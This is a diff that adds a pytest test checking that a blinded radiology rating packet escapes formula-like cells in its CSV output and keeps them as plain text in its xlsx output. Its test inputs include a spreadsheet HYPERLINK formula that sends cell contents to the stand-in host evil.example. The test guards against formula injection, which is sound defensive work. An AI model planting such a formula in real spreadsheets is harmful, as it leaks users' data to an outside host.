@@ -48,6 +48,27 @@ def test_packet_holds_no_trace_of_which_side_is_the_model(packet):
     assert pd.read_excel(paths[1], dtype=str).fillna("")["case_id"].tolist() == sheet["case_id"].tolist()
 
 
+ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B3&C3,"click")', "- Heart size normal.", "+1 cm nodule.",
+           "@SUM(A1)", "\tTab first.", "\rCR first.", "Plain text."]
+
+
+def test_no_sheet_cell_is_a_live_formula_and_the_xlsx_shows_the_text_exactly(tmp_path):
+    from openpyxl import load_workbook
+
+    findings = pd.DataFrame({"report_id": [f"R{i}" for i in range(len(ATTACKS))], "findings": ATTACKS,
+                             "radiologist": ATTACKS[::-1], "model": ATTACKS})
+    sheet, _ = blinded_packet(findings, seed=0)
+    csv_path, xlsx_path, _ = write_packet(sheet, tmp_path)
+    written = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
+    for column in ("findings", "impression_A", "impression_B"):
+        for shown, original in zip(written[column], sheet[column]):
+            assert shown == (original if original[0] not in "=+-@\t\r" else "'" + original)
+    book = load_workbook(xlsx_path)
+    cells = [cell for row in book["ratings"].iter_rows(min_row=2) for cell in row[1:4]]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert [cell.value for cell in cells] == sheet[["findings", "impression_A", "impression_B"]].to_numpy().ravel().tolist()
+
+
 def test_bad_ratings_are_all_reported_and_nothing_is_imported(packet, tmp_path):
     sheet, key, _ = packet
     ids = list(sheet["case_id"])
